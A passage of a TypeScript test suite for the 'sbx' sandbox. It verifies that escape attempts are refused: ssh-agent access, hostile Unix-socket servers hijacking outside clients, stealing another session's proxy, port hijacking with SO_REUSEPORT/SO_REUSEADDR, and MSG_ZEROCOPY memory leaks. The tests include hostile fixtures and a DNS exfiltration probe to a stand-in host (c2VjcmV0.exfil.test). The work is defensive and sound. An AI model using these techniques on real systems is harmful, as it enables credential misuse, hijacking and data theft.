    const key = join(world.dir, 'id_test');
    execaSync('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-C', 'sbx-escape-net', '-f', key]);
    const a = execa('ssh-agent', ['-D', '-a', agent], { stdio: 'ignore', env: world.env, extendEnv: false, reject: false });
    children.push(a);
    for (let i = 0; i < 50 && !existsSync(agent); i++) await sleep(100);
    const env = { ...world.env, SSH_AUTH_SOCK: agent };
    execaSync('ssh-add', [key], { env, extendEnv: false });
    const out = await outside(['ssh-add', '-l'], env);
    expect(out.code).toBe(0);
    expect(out.stdout).toMatch(/sbx-escape-net/);

    // By default $SSH_AUTH_SOCK is in the `secrets` floor: refused even when named.
    const floored = await inside([`--allow-net=${agent}`], ['ssh-add', '-l'], env);
    expect(floored.code).toBe(2);
    expect(floored.stderr).toMatch(/denied unix .*agent\.sock .*protect/);

    // A user who lifts that floor (no `secrets` in protect or extends) still meets the deputy rule:
    // refused unless the socket itself is named.
    const config = join(world.env.XDG_CONFIG_HOME!, 'sbx', 'config.yaml');
    mkdirSync(dirname(config), { recursive: true });
    writeFileSync(config, 'version: 1\nprotect: [persistence]\nextends: []\n');
    try {
      const denied = await inside([], ['ssh-add', '-l'], env);
      expect(denied.code).toBe(2);
      expect(denied.stdout).not.toMatch(/sbx-escape-net/);
      expect(denied.stderr).toMatch(/denied unix .*agent\.sock .*ssh-agent: signs with your SSH keys/);
      const deniedAll = await inside(['--deny-all', '--allow-env=SSH_AUTH_SOCK'], ['ssh-add', '-l'], env);
      expect(deniedAll.code).toBe(2);

      const named = await inside([`--allow-net=${agent}`], ['ssh-add', '-l'], env);
      expect(named.code).toBe(0);
      expect(named.stdout).toMatch(/sbx-escape-net/);
      const namedAll = await inside(['--deny-all', '--allow-env=SSH_AUTH_SOCK', `--allow-net=${agent}`], ['ssh-add', '-l'], env);
      expect(namedAll.code).toBe(0);
      const check = await run(sbxBin, ['check', 'net', agent], { env, cwd: world.dir });
      expect(check.code).toBe(1);
      expect(check.stdout).toMatch(/served by pid \d+ \(.*ssh-agent\), outside any sandbox/);
      expect(check.stdout).toMatch(/ssh-agent: signs with your SSH keys/);
    } finally {
      rmSync(config, { force: true });
    }
  });
});

describe('the other way round: a Unix-socket server inside does not serve clients outside', () => {
  // A client outside trusts the server its socket name leads to: tmux's `detach-client -E CMD`
  // makes the client run CMD where the client runs. A program inside that binds a name before
  // the real server does (/tmp/tmux-UID/default where the policy lets it write, an
  // @abstract name), or links a name to its socket, would get the next client outside. So the
  // engine performs accept() and hands a sandboxed server only connections its own session
  // made; no policy lifts that.
  const dir = join(world.dir, 'served-inside');
  const order = (m: string) => `echo obeyed >> ${m}`;
  const lines = (m: string) => (existsSync(m) ? readFileSync(m, 'utf8').split('\n').filter(Boolean).length : 0);
  /** A hostile server inside: it first serves a client of its own session (the twin), then waits. `before`: run first by that client. */
  const hostile = (flags: string[], sock: string, m: string, mode: string, before = '') =>
    background(
      [sbxBin, 'exec', ...flags, '--', 'sh', '-c', `${fixture('cmd_server')} order ${sock} '${order(m)}' ${mode} & sleep 0.3; ${before}${fixture('cmd_server')} obey ${sock}; wait`],
      /obeyed|error/,
    );
  /** Its output once `re` shows in it (or after 2.5 s). */
  const outputOnce = async (bg: { out: () => string }, re: RegExp) => {
    for (let i = 0; i < 50 && !re.test(bg.out()); i++) await sleep(50);
    return bg.out();
  };

  beforeAll(() => mkdirSync(dir));
  // Killing an `sbx exec` that runs in its own process leaves its command's processes (the
  // hostile servers wait in poll() for ever): ended here by their socket names.
  afterAll(() => void execaSync('pkill', ['-f', `sbx-served-inside-${tag}`], { reject: false }));

  for (const [kind, mode] of [['path', 'block'], ['abstract', 'poll']] as const) {
    it(`${kind} name, ${mode === 'block' ? 'blocking accept' : 'non-blocking listener + poll'}: a client outside gets nothing, one of the session is served; naming the socket does not change that`, async () => {
      const sock = kind === 'path' ? join(dir, `s-${mode}`) : `@sbx-served-inside-${tag}-${mode}`;
      const m = join(dir, `mark-${kind}`);
      // The network stays open (no --deny-*): serving an abstract name under a restricted one needs it named.
      const server = await hostile(['--deny-write', `--allow-write=${dir}`], sock, m, mode);
      expect(server.out()).toMatch(/^obeyed echo obeyed/m); // inside: served
      // accept4's flags and the peer's address (unnamed: its length only) as the kernel gives them
      expect(server.out()).toMatch(mode === 'block' ? /^served peer-len 2 cloexec 0 nonblock 0$/m : /^served peer-len 2 cloexec 1 nonblock 1$/m);
      expect(lines(m)).toBe(1);
      const out = await outside([fixture('cmd_server'), 'obey', sock]);
      expect(out.stdout).toBe('no order\n');
      await sleep(200);
      expect(lines(m)).toBe(1);
      expect(await outputOnce(server, /denied unix/)).toMatch(/sbx: denied unix .*a client from outside this session: pid \d+/);
      server.child.kill('SIGKILL');

      // Named in net.unix.allow: still not served outside — a name the sandbox links to its
      // socket (a symlink or hard link at tmux's) would lead a client there as well.
      const namedSock = kind === 'path' ? join(dir, `n-${mode}`) : `${sock}-named`;
      const nm = join(dir, `mark-${kind}-named`);
      const script = kind === 'path' ? `ln -s ${namedSock} ${namedSock}-link; ln ${namedSock} ${namedSock}-hard; ` : '';
      const named = await hostile(['--deny-write', `--allow-write=${dir}`, `--allow-net=${namedSock}`], namedSock, nm, mode, script);
      expect(lines(nm)).toBe(1);
      for (const via of kind === 'path' ? [namedSock, `${namedSock}-link`, `${namedSock}-hard`] : [namedSock]) {
        expect((await outside([fixture('cmd_server'), 'obey', via])).stdout, via).toBe('no order\n');
      }
      expect(lines(nm)).toBe(1);
      named.child.kill('SIGKILL');
    });
  }

  it('a server of one session does not serve a client of another, even one that names the socket (it would give orders within the other\'s rights)', async () => {
    const sock = join(dir, 'cross.sock');
    const m = join(dir, 'mark-cross');
    const server = await hostile(['--deny-write', `--allow-write=${dir}`], sock, m, 'block');
    expect(lines(m)).toBe(1); // its own session: served
    const other = await inside(['--deny-write', `--allow-write=${dir}`, `--allow-net=${sock}`], [fixture('cmd_server'), 'obey', sock]);
    expect(other.stdout).toBe('no order\n');
    expect(lines(m)).toBe(1);
    expect(await outputOnce(server, /denied unix/)).toMatch(/sbx: denied unix .*cross\.sock \(a client from (another sandbox session|outside this session: pid \d+)/);
    server.child.kill('SIGKILL');
  });

  it('a client queued while the server is out of fds is not lost: accept fails with EMFILE, and the next one, an fd freed, gets it — inside as outside', async () => {
    const want = 'ready\nfirst accept: Too many open files\nsecond accept: ok\nclient got its byte\n';
    const sorted = (t: string) => t.split('\n').filter(Boolean).sort().join('\n');
    const out = await outside([fixture('cmd_server'), 'emfile', join(dir, 'emfile-out')]);
    expect(sorted(out.stdout)).toBe(sorted(want));
    const inn = await inside(['--deny-write', `--allow-write=${dir}`], [fixture('cmd_server'), 'emfile', join(dir, 'emfile-in')]);
    expect(sorted(inn.stdout), inn.stderr).toBe(sorted(want));
  });

  it('a client of the session that sent and closed before the accept is served its last words, inside as outside', async () => {
    const argv = (w: string) => [fixture('cmd_server'), 'last-words', join(dir, `last-${w}`)];
    expect((await outside(argv('out'))).stdout).toBe('ready\ngot: last words\n');
    const r = await inside(['--deny-write', `--allow-write=${dir}`], argv('in'));
    expect(r.stdout, r.stderr).toBe('ready\ngot: last words\n');
  });

  it('thousands of refused connects do not crowd out a client of the session waiting to be accepted', async () => {
    const argv = (w: string) => [fixture('cmd_server'), 'crowd', join(dir, `crowd-${w}`), '5000'];
    expect((await outside(argv('out'))).stdout).toBe('ready\nrefused 5000, then accepted our own\n');
    const r = await inside(['--deny-write', `--allow-write=${dir}`], argv('in'));
    expect(r.stdout, r.stderr).toBe('ready\nrefused 5000, then accepted our own\n');
  });

  it('a signal aimed at another thread that waits in an accept of ours never ends this one with the kernel-internal 512 (at most EINTR)', async () => {
    const argv = (w: string) => [fixture('cmd_server'), 'sigchld-threads', join(dir, `chld-${w}`)];
    // (The handler's "chld" may land inside another line: only the accept's results are compared.)
    const out = await outside(argv('out'));
    expect(out.stdout).toMatch(/main accepted/);
    expect(out.stdout).not.toMatch(/errno/);
    const r = await inside(['--deny-write', `--allow-write=${dir}`], argv('in'));
    expect(r.stdout, r.stderr).toMatch(/main accepted/);
    expect(r.stdout.match(/errno \d+/g) ?? []).not.toContain('errno 512');
    for (const e of r.stdout.match(/errno \d+/g) ?? []) expect(e).toBe('errno 4');
  });

  it('accept() on a socket that does not listen fails at once, inside as outside', async () => {
    const argv = [fixture('cmd_server'), 'not-listening', join(dir, 'unused')];
    const out = await outside(argv);
    expect(out.stdout).toBe('stream -1 Invalid argument\ndgram -1 Operation not supported\n');
    expect((await inside(['--deny-write', `--allow-write=${dir}`], argv)).stdout).toBe(out.stdout);
  });

  it('the same order from a server outside reaches a client outside (the kernel lets it; the refusal above is sbx)', async () => {
    const sock = join(dir, 'outside.sock');
    const m = join(dir, 'mark-outside');
    const server = await background([fixture('cmd_server'), 'order', sock, order(m)], /ready/);
    expect((await outside([fixture('cmd_server'), 'obey', sock])).stdout).toMatch(/^obeyed/);
    expect(lines(m)).toBe(1);
    expect(server.out()).toMatch(/^served peer-len 2 cloexec 0 nonblock 0$/m);
    server.child.kill('SIGKILL');
  });

  it.runIf(has('tmux'))('a real tmux server inside: its own session lists it, `tmux ls` outside is not served while it runs', async () => {
    const tsock = join(dir, 'tmux.sock');
    const done = join(dir, 'tmux-done');
    const env = { ...world.env, TERM: 'xterm' };
    const script = `tmux -S ${tsock} new-session -d -s inside 'sleep 60' && tmux -S ${tsock} ls; while [ ! -e ${done} ]; do sleep 0.05; done; tmux -S ${tsock} kill-server`;
    const session = await background([sbxBin, 'exec', '--deny-write', `--allow-write=${dir}`, '--', 'sh', '-c', script], /inside: 1 windows|error|denied/, env);
    try {
      expect(session.out()).toMatch(/^inside: 1 windows/m);
      const out = await outside(['tmux', '-S', tsock, 'ls'], env);
      expect(out.code).not.toBe(0);
      expect(out.stdout).not.toMatch(/inside: 1 windows/);
      expect(existsSync(tsock)).toBe(true); // the server was there all along
    } finally {
      writeFileSync(done, '');
      await exited(session.child);
    }
  });

  it('several processes racing to accept on one blocking listener (poll, then accept) serve every client of their session, as outside', async () => {
    for (const where of ['outside', 'inside'] as const) {
      const argv = [fixture('cmd_server'), 'herd', join(dir, `herd-${where}`), '4', '200'];
      const r = where === 'inside' ? await inside(['--deny-write', `--allow-write=${dir}`], argv) : await outside(argv);
      // Every worker took its SIGTERM, whichever accept it was in (none stuck in one of ours).
      expect(r.stdout, where + r.stderr).toBe('ready\nserved 200\nended 4 of 4\n');
    }
  });

  it('a receive timeout on a blocking listener (SO_RCVTIMEO) ends accept() with EAGAIN inside as outside', async () => {
    for (const where of ['outside', 'inside'] as const) {
      const argv = [fixture('cmd_server'), 'wait', join(dir, `timeout-${where}`), '300'];
      const r = where === 'inside' ? await inside(['--deny-write', `--allow-write=${dir}`], argv) : await outside(argv);
      const ms = Number(/^ready\ntimeout after (\d+) ms\n$/.exec(r.stdout)?.[1]);
      expect(ms, where + r.stdout + r.stderr).toBeGreaterThanOrEqual(290);
      expect(ms, where).toBeLessThan(2000);
    }
  });

  it.runIf(has('strace'))('strace -p on a server blocked in accept() gets it, and lets go, inside as outside (inside the call ends with EINTR)', async () => {
    for (const where of ['outside', 'inside'] as const) {
      const sock = join(dir, `traced-${where}`);
      const argv = [fixture('cmd_server'), 'wait', sock];
      const w = await background(where === 'inside' ? [sbxBin, 'exec', '--deny-write', `--allow-write=${dir}`, '--', ...argv] : argv, /ready/);
      const pid = Number(execaSync('pgrep', ['-f', '-n', `cmd_server wait ${sock}`]).stdout.trim());
      await sleep(300);
      const log = join(dir, `strace-${where}.log`);
      const tracer = execa('strace', ['-p', String(pid), '-o', log], { reject: false });
      // Outside strace shows the accept it interrupted; inside the accept ends (EINTR) and strace
      // sees what the program does next.
      const seen = where === 'outside' ? /accept\(/ : /write\(1, "eintr/;
      for (let i = 0; i < 60 && !(existsSync(log) && seen.test(readFileSync(log, 'utf8'))); i++) await sleep(50);
      expect(readFileSync(log, 'utf8'), where).toMatch(seen);
      tracer.kill('SIGTERM');
      const ended = await Promise.race([tracer.then(() => true), sleep(5000).then(() => false)]);
      expect(ended, where).toBe(true); // a tracer that cannot stop its tracee cannot detach either
      w.child.kill('SIGKILL');
      try {
        process.kill(pid, 'SIGKILL');
      } catch {
        /* gone already (inside it exits at its EINTR) */
      }
    }
  });

  it('a server blocked in accept() inside still takes signals as outside: a handler with SA_RESTART runs and accept goes on, one without interrupts it (EINTR), SIGSTOP stops it; single-threaded, and with a thread that blocks them', async () => {
    for (const [where, wait] of [['outside', 'wait'], ['inside', 'wait'], ['outside', 'wait-threaded'], ['inside', 'wait-threaded']] as const) {
      const sock = join(dir, `${wait}-${where}`);
      const argv = [fixture('cmd_server'), wait, sock];
      const w = await background(where === 'inside' ? [sbxBin, 'exec', '--deny-write', `--allow-write=${dir}`, '--', ...argv] : argv, /ready/);
      const pid = Number(execaSync('pgrep', ['-f', '-n', `cmd_server ${wait} ${sock}`]).stdout.trim());
      await sleep(300); // in accept() by now
      process.kill(pid, 'SIGUSR1');
      expect(await outputOnce(w, /usr1/), where + wait).toMatch(/^ready\nusr1\n$/);
      process.kill(pid, 'SIGSTOP');
      const state = async () => readFileSync(`/proc/${pid}/stat`, 'utf8').split(') ')[1]![0];
      let s = await state();
      for (let i = 0; i < 50 && s !== 'T'; i++) await sleep(50), (s = await state());
      expect(s, where + wait).toBe('T');
      process.kill(pid, 'SIGCONT');
      await sleep(300);
      expect(w.out(), where + wait).toBe('ready\nusr1\n'); // still waiting: the stop restarted accept
      process.kill(pid, 'SIGUSR2');
      expect(await outputOnce(w, /eintr/), where).toMatch(/^ready\nusr1\nusr2\neintr\n$/);
      await exited(w.child);
    }
  });
});

describe("sbx's filtering proxy serves its own sandbox only", () => {
  let web: Servers;
  let hosts: string;
  beforeAll(async () => {
    web = await tcpServers({ '127.0.0.1': 'hello through a proxy' });
    hosts = writeHostsFile(world.dir, { '127.0.0.1': ['a.wild.test'] });
  });
  afterAll(() => web.close());

  it("another sandbox (allowed 127.0.0.1) and an unsandboxed process are refused by a sandbox's proxy; each sandbox's own proxy works", async () => {
    const env = { ...world.env, SBX_HOSTS_FILE: hosts };
    const portFile = join(world.dir, 'proxy-port');
    const go = join(world.dir, 'proxy-go');
    const target = `a.wild.test:${web.port}`;
    const client = (port: string) => `${fixture('net_client')} http-connect ${port} ${target}`;
    // Sandbox A: its proxy port to a file, then (when told) its own client through it.
    const a = await background(
      // A local address behind a wildcard needs an address rule (the proxy's decision).
      [sbxBin, 'exec', '--allow-net=*.wild.test', `--allow-net=127.0.0.1:${web.port}`, '--', 'sh', '-c', `echo "\${HTTP_PROXY##*:}" > ${portFile}; echo started; while [ ! -e ${go} ]; do sleep 0.05; done; ${client('${HTTP_PROXY##*:}')}`],
      /started/,
      env,
    );
    const port = readFileSync(portFile, 'utf8').trim();
    expect(port).toMatch(/^\d+$/);

    // Sandbox B may reach 127.0.0.1 (every port) and has a proxy of its own: its own works…
    const b = ['--allow-net=*.wild.test', '--allow-net=127.0.0.1'];
    expect((await inside(b, ['sh', '-c', client('${HTTP_PROXY##*:}')], env)).stdout).toBe('ok hello through a proxy\n');
    // …A's is refused.
    const stolen = await inside(b, [fixture('net_client'), 'http-connect', port, target], env);
    expect(stolen.stdout).toMatch(/^refused/);
    // An unsandboxed process is refused too.
    expect((await outside([fixture('net_client'), 'http-connect', port, target], env)).stdout).toMatch(/^refused/);

    // A's own client through A's proxy.
    writeFileSync(go, '');
    await exited(a.child);
    expect(a.out()).toMatch(/ok hello through a proxy/);
    expect(a.out()).toMatch(/sbx: refused a connection to this sandbox's proxy from 127\.0\.0\.1:\d+/);
    rmSync(go, { force: true });
  });
});

describe("sbx's filtering proxy in the supervisor: one process, a proxy per session", () => {
  it("a session allowed 127.0.0.1 is refused at connect to another session's proxy port; its own proxy works", { timeout: 120_000 }, async () => {
    const { makeProject, makeSandbox } = await import('./supervisor-helpers.js');
    const sb = makeSandbox('escape-net');
    const web = await tcpServers({ '127.0.0.1': 'hello through a session proxy' });
    try {
      sb.env.SBX_DAEMON_HOSTS_FILE = writeHostsFile(sb.dir, { '127.0.0.1': ['a.wild.test'] });
      const target = `a.wild.test:${web.port}`;
      const client = (port: string) => `${fixture('net_client')} http-connect ${port} ${target}`;
      const pa = makeProject(join(sb.home, 'proj-a'), `version: 1\nnet:\n  allow: ["*.wild.test", "127.0.0.1:${web.port}"]\n`);
      const pb = makeProject(join(sb.home, 'proj-b'), 'version: 1\nnet:\n  allow: ["*.wild.test", "127.0.0.1"]\n');
      expect(sb.sbx(['trust'], { cwd: pa }).code).toBe(0);
      expect(sb.sbx(['trust'], { cwd: pb }).code).toBe(0);
      const portFile = join(sb.dir, 'a-port');
      const go = join(sb.dir, 'a-go');
      const a = sb.spawnSbx(['shell', '--', 'sh', '-c', `echo "\${HTTP_PROXY##*:}" > ${portFile}; while [ ! -e ${go} ]; do sleep 0.05; done; ${client('${HTTP_PROXY##*:}')}`], { cwd: pa });
      for (let i = 0; i < 300 && !(existsSync(portFile) && readFileSync(portFile, 'utf8').trim()); i++) await sleep(100);
      const port = readFileSync(portFile, 'utf8').trim();
      expect(port).toMatch(/^\d+$/);
      const b = await sb.spawnSbx(['shell', '--', 'sh', '-c', `${client('${HTTP_PROXY##*:}')}; echo "own=$?"; ${client(port)}; echo "other=$?"`], { cwd: pb }).done;
      expect(b.stdout).toMatch(/^ok hello through a session proxy\nown=0$/m);
      expect(b.stdout).toMatch(/^error connect: Permission denied \(errno 13\)\nother=1$/m);
      expect(sb.log().some((v) => v.kind === 'deny' && v.target.includes(`127.0.0.1:${port} (another sandbox's sbx proxy)`))).toBe(true);
      writeFileSync(go, '');
      const ar = await a.done;
      expect(ar.stdout).toContain('ok hello through a session proxy');
    } finally {
      sb.cleanup();
      await web.close();
    }
  });
});

// A policy that reaches nothing (--deny-net, `net.allow: []`, `offline`) cannot reach its
// session's proxy either: the proxy would look up any name it is asked for, and the lookup
// alone carries the name out (DNS exfiltration under "no network").
describe("a policy that reaches nothing does not reach its session's proxy", () => {
  it('in a project allowing no network the proxy port in HTTP_PROXY is refused (twin: a project allowing a name reaches its own)', { timeout: 120_000 }, async () => {
    const { makeProject, makeSandbox } = await import('./supervisor-helpers.js');
    const sb = makeSandbox('escape-net-none');
    try {
      const probe = `${fixture('net_client')} http-connect \${HTTP_PROXY##*:} c2VjcmV0.exfil.test:443; echo "code=$?"`;
      const none = makeProject(join(sb.home, 'proj-none'), 'version: 1\nnet:\n  allow: []\n');
      const some = makeProject(join(sb.home, 'proj-some'), 'version: 1\nnet:\n  allow: ["*.wild.test"]\n');
      expect(sb.sbx(['trust'], { cwd: some }).code).toBe(0);
      const refused = await sb.spawnSbx(['shell', '--', 'sh', '-c', probe], { cwd: none }).done;
      expect(refused.stdout).toMatch(/^error connect: Permission denied \(errno 13\)\ncode=1$/m);
      const reached = await sb.spawnSbx(['shell', '--', 'sh', '-c', probe], { cwd: some }).done;
      expect(reached.stdout).not.toMatch(/error connect/); // the proxy answers (and refuses that name unresolved)
    } finally {
      sb.cleanup();
    }
  });
});

// The engine performs a program's sends from its own copy of the payload (heap memory). With
// MSG_ZEROCOPY on a socket with SO_ZEROCOPY the kernel would pin that copy, which the engine
// frees and reuses before the data leaves: the peer got supervisor memory.
describe('sends the engine makes never lend it the supervisor memory (MSG_ZEROCOPY)', () => {
  it('a zerocopy send inside delivers what was sent, as outside; SO_ZEROCOPY is refused as by a socket without zerocopy (twin: outside it is set)', async () => {
    const out = await outside([fixture('net_share'), 'zc']);
    expect(out.stdout).toBe('so_zerocopy: ok\nsame\n');
    const ins = await inside([], [fixture('net_share'), 'zc']);
    expect(ins.stdout, ins.stderr).toBe('so_zerocopy: Operation not supported\nsame\n');
    expect((await inside([], [fixture('net_share'), 'zc', 'nozc'])).stdout).toBe('so_zerocopy: Operation not supported\nsame\n');
  });

  it('a socket that got SO_ZEROCOPY before the sandbox: its zerocopy send inside is sent copied, bytes as sent (twin: outside)', async () => {
    const out = await outside([fixture('net_share'), 'zc-wrap', fixture('net_share'), 'zc-inherited']);
    expect(out.stdout).toBe('so_zerocopy: set\nsame\n');
    const ins = await outside([fixture('net_share'), 'zc-wrap', sbxBin, 'exec', '--', fixture('net_share'), 'zc-inherited']);
    expect(ins.stdout, ins.stderr).toBe('so_zerocopy: set\nsame\n');
  });
});

// Binding a port a server outside already serves fails (EADDRINUSE) unless both sockets ask
// to share it: SO_REUSEPORT (TCP and UDP: a group the kernel spreads clients over) and, for
// UDP, SO_REUSEADDR (unicast datagrams go to the last socket bound). A sandbox would take a
// share of the outside server's clients. Refused inside, whatever the network policy.
describe('sharing a port with a server outside the sandbox', () => {
  /** Connects `n` times from outside; counts the answers by server name. */
  async function clients(port: number, n: number): Promise<Record<string, number>> {
    const by: Record<string, number> = {};
    for (let i = 0; i < n; i++) {
      const line = await fetchLine(port);
      by[line] = (by[line] ?? 0) + 1;
    }
    return by;
  }

  it('SO_REUSEPORT next to an outside TCP server: outside a second server takes a share of its clients; inside refused (no network flags, and --allow-net=127.0.0.1:P)', { timeout: 90_000 }, async () => {
    const port = await freePort();
    const p = String(port);
    const victim = await background([fixture('net_share'), 'tcp-serve', 'reuseport', '127.0.0.1', p, '80', 'real'], /listening/);
    // Outside twin: another process of the user joins the group and gets clients.
    const thief = await background([fixture('net_share'), 'tcp-serve', 'reuseport', '127.0.0.1', p, '4', 'outsider'], /listening/);
    const shared = await clients(port, 30);
    expect(shared.outsider, JSON.stringify(shared)).toBeGreaterThan(0);
    await exited(thief.child);
    for (const flags of [[], [`--allow-net=127.0.0.1:${port}`]]) {
      const ins = await background([sbxBin, 'exec', ...flags, '--', fixture('net_share'), 'tcp-serve', 'reuseport', '127.0.0.1', p, '4', 'impostor'], /listening|error/);
      const seen = await clients(port, 20);
      await exited(ins.child);
      expect(seen).toEqual({ real: 20 });
      expect(ins.out()).toMatch(/^setsockopt: Operation not permitted$/m);
      expect(ins.out()).toMatch(/^error bind: Address already in use/m);
      expect(ins.out()).toMatch(/sbx: denied net SO_REUSEPORT/);
    }
    victim.child.kill('SIGKILL');
  });

  it('SO_REUSEADDR next to an outside UDP server: outside the last socket bound takes its datagrams; inside refused on datagram sockets', async () => {
    const { createSocket } = await import('node:dgram');
    const port = await freePort();
    const p = String(port);
    const send = async (n: number) => {
      const c = createSocket('udp4');
      for (let i = 0; i < n; i++) await new Promise<void>((r) => c.send('x', port, '127.0.0.1', () => r()));
      c.close();
    };
    const victim = await background([fixture('net_share'), 'udp-serve', 'reuseaddr', '127.0.0.1', p, '20'], /listening/);
    const thief = await background([fixture('net_share'), 'udp-serve', 'reuseaddr', '127.0.0.1', p, '2'], /listening/);
    await send(10);
    await exited(thief.child);
    expect(thief.out()).toMatch(/got 10/); // outside: the newcomer got them all
    const ins = await background([sbxBin, 'exec', '--', fixture('net_share'), 'udp-serve', 'reuseaddr', '127.0.0.1', p, '2'], /listening|error/);
    await send(10);
    await exited(ins.child);
    expect(ins.out()).not.toMatch(/got [1-9]/);
    expect(ins.out()).toMatch(/^setsockopt: Operation not permitted$/m);
    expect(ins.out()).toMatch(/^error bind: Address already in use/m);
    expect(ins.out()).toMatch(/sbx: denied net SO_REUSEADDR/);
    victim.child.kill('SIGKILL');
    await exited(victim.child);
  });

  it('a server outside on one loopback family: inside, the same port on the other family is refused (`localhost` clients try ::1 first); twin: outside a second server there takes its clients', { timeout: 90_000 }, async () => {
    for (const [proto, held, free] of [['tcp', '127.0.0.1', '::1'], ['tcp', '::1', '127.0.0.1'], ['udp', '127.0.0.1', '::1']] as const) {
      const port = await freePort();
      const p = String(port);
      const what = `${proto} ${held} -> ${free}`;
      const victim = await background([fixture('net_share'), `${proto}-serve`, 'none', held, p, '30', 'real'], /listening/);
      // Outside twin: the other family is free to anyone outside, and a client of it reaches that server.
      const thief = await background([fixture('net_share'), `${proto}-serve`, 'none', free, p, '3', 'outsider'], /listening|error/);
      expect(thief.out(), what).toMatch(/^setsockopt: ok\nlistening/);
      if (proto === 'tcp') expect(await fetchLine(port, free), what).toBe('outsider');
      thief.child.kill('SIGKILL');
      await exited(thief.child);
      // Inside, SO_REUSEADDR as servers set it (TCP; the twin's connection left TIME_WAIT behind).
      const opt = proto === 'tcp' ? 'reuseaddr' : 'none';
      const ins = await background([sbxBin, 'exec', '--', fixture('net_share'), `${proto}-serve`, opt, free, p, '3', 'impostor'], /listening|error/);
      if (proto === 'tcp') expect(await fetchLine(port, free), what).toBe('error ECONNREFUSED');
      await exited(ins.child);
      expect(ins.out(), what).toMatch(/^setsockopt: ok\nerror bind: Address already in use/m);
      expect(ins.out(), what).toContain(`sbx: denied net serve ${proto.toUpperCase()} port ${port}: a server outside the sandbox serves ${held === '::1' ? `[::1]:${port}` : `127.0.0.1:${port}`}`);
      if (proto === 'tcp') expect(await fetchLine(port, held), what).toBe('real');
      victim.child.kill('SIGKILL');
      await exited(victim.child);
    }
  });

  // helper-93 #06: a port the kernel picks (listen() on an unbound socket, bind to port 0) was
  // never checked: a loop landed on an outside server's port in the other family in 0.4 s.
  it("a port the kernel picks inside (listen() unbound, a UDP bind to port 0) never lands on the other family of an outside server's port; twin: those calls work, thousands of times", { timeout: 60_000 }, async () => {
    const { createServer } = await import('node:net');
    const { createSocket } = await import('node:dgram');
    const tcp = createServer(() => {});
    await new Promise<void>((r) => tcp.listen(0, '127.0.0.1', r));
    const P = (tcp.address() as { port: number }).port;
    const udp = createSocket('udp4');
    await new Promise<void>((r) => udp.bind(0, '127.0.0.1', r));
    const U = udp.address().port;
    const loop = [
      'import socket, sys, time',
      'mode, want, tries = sys.argv[1], int(sys.argv[2]), 0',
      // Up to 3000 tries (20 s at most: a loaded box is slow, and the count is what matters).
      'end = time.time() + 20',
      'while time.time() < end and tries < 3000:',
      '    tries += 1',
      "    s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM if mode == 'listen' else socket.SOCK_DGRAM)",
      '    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)',
      "    s.listen() if mode == 'listen' else s.bind(('::1', 0))",
      '    port = s.getsockname()[1]',
      '    s.close()',
      '    if port == want:',
      "        print('landed', mode, tries); sys.exit(0)",
      "print('never', mode, tries)",
    ].join('\n');
    try {
      for (const [mode, want] of [['listen', P], ['udp', U]] as const) {
        const r = await inside([], ['python3', '-c', loop, mode, String(want)]);
        expect(r.stdout, r.stderr).toMatch(new RegExp(`^never ${mode} \\d+`, 'm'));
        expect(Number(new RegExp(`^never ${mode} (\\d+)`, 'm').exec(r.stdout)?.[1])).toBeGreaterThan(1000);
      }
    } finally {
      tcp.close();
      udp.close();
    }
  });

  it('twin: a server inside may serve both loopback families on one port itself, and the other family of a port nobody serves', async () => {
    const port = String(await freePort());
    const f = fixture('net_share');
    const both = await inside([], ['sh', '-c', `${f} tcp-serve none 127.0.0.1 ${port} 1 four & sleep 0.3; ${f} tcp-serve none ::1 ${port} 0.5 six; wait`]);
    expect(both.stdout).toMatch(/^setsockopt: ok\nlistening\n(.|\n)*setsockopt: ok\nlistening\n/);
    expect(both.stdout).not.toMatch(/error/);
    expect(both.stderr).not.toMatch(/denied/);
    const alone = await inside([], [f, 'udp-serve', 'none', '::1', String(await freePort()), '0.1']);
    expect(alone.stdout).toBe('setsockopt: ok\nlistening\ngot 0\n');
  });

  it('twin: a TCP server inside with SO_REUSEADDR (what servers set routinely) still serves; a UDP socket without it binds', async () => {
    const port = await freePort();
    const srv = await background([sbxBin, 'exec', `--allow-net=localhost:${port}`, '--', fixture('net_share'), 'tcp-serve', 'reuseaddr', '127.0.0.1', String(port), '3', 'inside'], /listening|error/);
    expect(srv.out()).toMatch(/^setsockopt: ok\nlistening/);
    expect(await fetchLine(port)).toBe('inside');
    await exited(srv.child);
    const udp = await inside([], [fixture('net_share'), 'udp-serve', 'none', '127.0.0.1', String(port), '0.2']);
    expect(udp.stdout).toBe('setsockopt: ok\nlistening\ngot 0\n');
  });

  it('a socket that got SO_REUSEPORT (TCP) or SO_REUSEADDR (UDP) outside, before the sandbox had it, is not bound inside next to an outside server (twin: outside it binds; a TCP socket with SO_REUSEADDR binds inside)', async () => {
    for (const [proto, opt] of [['tcp', 'reuseport'], ['udp', 'reuseaddr']] as const) {
      const port = String(await freePort());
      const victim = await background([fixture('net_share'), `${proto}-serve`, opt, '127.0.0.1', port, '20', 'real'], /listening/);
      const out = await outside([fixture('net_share'), 'opt-wrap', proto, opt, fixture('net_share'), 'bind-fd', '127.0.0.1', port]);
      expect(out.stdout, proto).toBe('setsockopt: ok\nbound\n');
      const ins = await outside([fixture('net_share'), 'opt-wrap', proto, opt, sbxBin, 'exec', '--', fixture('net_share'), 'bind-fd', '127.0.0.1', port]);
      expect(ins.stdout, proto).toMatch(/^setsockopt: ok\nerror bind: Operation not permitted/);
      expect(ins.stderr, proto).toMatch(/sbx: denied net bind of a socket with SO_REUSE(PORT|ADDR) set before the sandbox had it/);
      victim.child.kill('SIGKILL');
      await exited(victim.child);
    }
    const free = String(await freePort());
    const tcp = await outside([fixture('net_share'), 'opt-wrap', 'tcp', 'reuseaddr', sbxBin, 'exec', '--', fixture('net_share'), 'bind-fd', '127.0.0.1', free]);
    expect(tcp.stdout).toBe('setsockopt: ok\nbound\n');
  });

  // SO_BINDTODEVICE shared no port even when allowed (EADDRINUSE all the same); it is refused
  // now for where it sends packets (below: 'a socket option cannot send a decided packet elsewhere').
  it('SO_BINDTODEVICE, SO_BINDTOIFINDEX, IP_TRANSPARENT and IP_FREEBIND are refused inside (outside they are taken, IP_TRANSPARENT with the capability); a server next to an outside one still gets EADDRINUSE', async () => {
    const port = await freePort();
    const victim = await background([fixture('net_share'), 'tcp-serve', 'none', '127.0.0.1', String(port), '20', 'real'], /listening/);
